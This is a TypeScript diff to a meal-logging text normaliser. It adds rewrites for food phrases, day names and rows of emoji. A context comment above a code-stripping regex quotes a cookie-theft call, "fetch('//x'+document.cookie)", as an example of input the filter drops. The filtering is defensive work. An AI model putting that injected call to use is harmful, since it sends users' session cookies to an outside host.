@@ -1,5 +1,7 @@
+import { expandCombos } from './combos.js';
 import { DESCRIBED } from './described.js';
 import { FOOD_EMOJI, WORKOUT_EMOJI } from './emoji.js';
+import { spanAsMinutes } from './spans.js';
 
 /** Texts are read up to here; what is stored is whole. */
 export const READ_LIMIT = 1600;
@@ -44,11 +46,22 @@ export function normaliseText(text: string): string {
   out = out.replace(/[^\S\n]+/g, ' ').trim();
   for (const [holds, said, meant] of DESCRIBED) if (out.includes(holds)) out = out.replace(said, meant);
   for (const [holds, said, meant] of PHRASES) if (out.includes(holds)) out = out.replace(said, meant);
-  return out;
+  return spanAsMinutes(expandCombos(out));
 }
 
 /** A call as programs and spreadsheets write it: "@sum(1+1)", "fetch('//x'+document.cookie)". Never what was eaten. */
 const CODE = /(?<!\S)(?:[=@]\w{1,40}\([^\s()]{0,200}\)|[\w.]{1,60}\([^\s()]{0,200}(?:['"{}\\=]|\/\/)[^\s()]{0,200}\))\S*/g;
+
+const DAYS = ['sunday', 'monday', 'tuesday', 'wednesday', 'thursday', 'friday', 'saturday'];
+/** "sat: waffles", "on fri night": short names of days, where nothing else is meant. */
+const SHORT_DAYS = DAYS.map((day): readonly [string, RegExp, string] => [
+  day.slice(0, 3),
+  new RegExp(
+    String.raw`(^|\n|\b(?:on|last) )${day.slice(0, 3)}(?:${day.slice(3, 4)}|${day.slice(3, 5)})?\.?(?=:| - | (?:night|morning|afternoon|evening|breakfast|brunch|lunch|dinner)\b|(?<=\b(?:on|last) ${day.slice(0, 3)}) )`,
+    'g',
+  ),
+  `$1${day}`,
+]);
 
 /** Plates that are named as one and are two foods, and the like; each is looked for only where the text holds what stands first. */
 const PHRASES: readonly (readonly [holds: string, said: RegExp, meant: string])[] = [
@@ -72,6 +85,44 @@ const PHRASES: readonly (readonly [holds: string, said: RegExp, meant: string])[
     /\b(6|12|six|twelve)[ -]?inch (tuna|turkey|ham|meatball|veggie|club|italian|roast beef|chicken)\b(?! (?:\w+ )?(?:sub|hoagie|sandwich|pizza))/g,
     '$1 inch $2 sub',
   ],
+  [' with 2%', / with (1|2)%(?! milk)/g, ' with $1% milk'],
+  [
+    ' over ',
+    / over (?=(?:a bed of )?(?:\w+ )?(?:rice|pasta|noodles|quinoa|spinach|greens|salad|mashed|spaghetti|linguine|couscous|ice cream|toast|biscuits?|lettuce|arugula|polenta|grits|potatoes)\b)/g,
+    ' with ',
+  ],
+  // a label's way round: "kcal 275"
+  ['cal', /(?<!\d ?|\d,)\b(k?cals?|kcals?|calories)[: ]{1,2}(\d{2,4})\b(?! ?(?:k?cals?|calories|g|oz|ml)\b)/g, '$2 $1'],
+  ['tall glass', /\btall glass/g, 'large glass'],
+  ['heaping', /\b(?:heaping|heaped|rounded|overflowing) (?=(?:table|tea)?spoon|tbsp|tsp|cup|scoop|plate|bowl)/g, ''],
+  ['layer', /\b(?:7|seven)[ -]layer\b/g, 'seven layer'],
+  // run together: "for breakfast i had yogurt for lunch i had a burger"
+  [
+    ' ',
+    /(?<=[a-z\d)] )(?:and |then |and then )?(?=for (?:breakfast|lunch|dinner|supper|(?:a |my )?(?:snack|dessert))(?: today| yesterday| tonight)? (?:i|we) (?:had|ate|got|made|grabbed|did)\b)/g,
+    '. ',
+  ],
+  // part of a list: "bbq sauce med fry"
+  [' fr', /(?<=[a-z] )(?<!(?:with|and|a|n|w|or|of|the|one|side) )(small|sm|medium|med|large|lg|lrg) (?:fry|frys|fries)\b/g, ', $1 fries'],
+  // whose plate, and who else ate
+  [' off ', / off (?:of )?(?:my|his|her|their|our|the) (?:[a-z]+(?:'?s)? )?plates?\b/g, ' '],
+  [' friends', /,? ?\b(?:me and|with|and) (?:\d|two|three|four|five|my|some|a few) (?:other )?friends\b/g, ' '],
+  // the how-manieth it is
+  [' ', /\b(?:day|meal|week|round) (?:#|number )?\d+ of (?:\d+|my \w+|the \w+|this \w+)\b/g, ' '],
+  ['mash ', /\bmash (?=(?:ed )?(?:potato|tater|spud))/g, 'mashed '],
+  ['gravy', /\bmashed (?=(?:and|with|n|w|&) gravy)/g, 'mashed potatoes '],
+  ['oat ', /\boat me+[ae]?l\b/g, 'oatmeal'],
+  [
+    'cookies',
+    /\bcookies (?:and|n|&|'?n'?) cr[eè]+me?\b(?= (?:quest|protein|bar|shake))|(?<=(?:quest|protein|bar|shake) (?:\w+ )?)cookies (?:and|n|&|'?n'?) cr[eè]+a?me?\b/g,
+    '',
+  ],
+  // restaurants named after what they are not eaten for
+  ['shake shack', /\bshake shack(?:'?s)? (?!(?:burger|cheeseburger|double|fries|shake)\b)/g, ''],
+  ['cheesecake factory', /\bcheesecake factory(?:'?s)? (?!cheesecake\b)/g, ''],
+  ...SHORT_DAYS,
+  ['inch', /\bsix[ -]inch(?=\b)/g, '6 inch'],
+  ['inch', /\btwelve[ -]inch(?=\b)/g, '12 inch'],
   // said of all that stands before
   [' ', /[,(]? ?\b(?:both|all|the) (?:of (?:them|those) )?(small|medium|big|large|extra large)(?: ones| sizes?)?\)?$/g, ', $1'],
 ];
@@ -82,8 +133,8 @@ function plain(text: string): string {
     .replace(UNSEEN, '')
     .replace(/[\u0660-\u0669]/g, (digit) => String(digit.charCodeAt(0) - 0x660))
     .replace(/[\u06f0-\u06f9]/g, (digit) => String(digit.charCodeAt(0) - 0x6f0))
-    .replace(/(\p{Extended_Pictographic})(?:\s*\1)*/gu, (run, one: string) =>
-      emojiWords(one, [...run].filter((char) => char === one).length),
+    .replace(/(\p{Extended_Pictographic})(?:\s*\1)*(?=(\s*\p{Extended_Pictographic})?)/gu, (run, one: string, more?: string) =>
+      emojiWords(one, [...run].filter((char) => char === one).length, more !== undefined),
     )
     .replace(/Ã©/g, 'é')
     .replace(/Ã¨/g, 'è')
@@ -109,9 +160,11 @@ function plain(text: string): string {
 // Cyrillic letters that pass for Latin ones.
 const LOOK_ALIKES: Record<string, string> = { а: 'a', е: 'e', о: 'o', р: 'p', с: 'c', х: 'x', у: 'y' };
 
-function emojiWords(emoji: string, times: number): string {
+/** One row of emoji is a list: "🍔🍟🥤". */
+function emojiWords(emoji: string, times: number, more: boolean): string {
   const word = FOOD_EMOJI[emoji] ?? WORKOUT_EMOJI[emoji];
   if (!word) return ' ';
-  if (times === 1) return ` ${word} `;
-  return emoji === '🍕' ? ` ${times} slices of pizza ` : ` ${times} ${word} `;
+  const end = more ? ', ' : ' ';
+  if (times === 1) return ` ${word}${end}`;
+  return emoji === '🍕' ? ` ${times} slices of pizza${end}` : ` ${times} ${word}${end}`;
 }
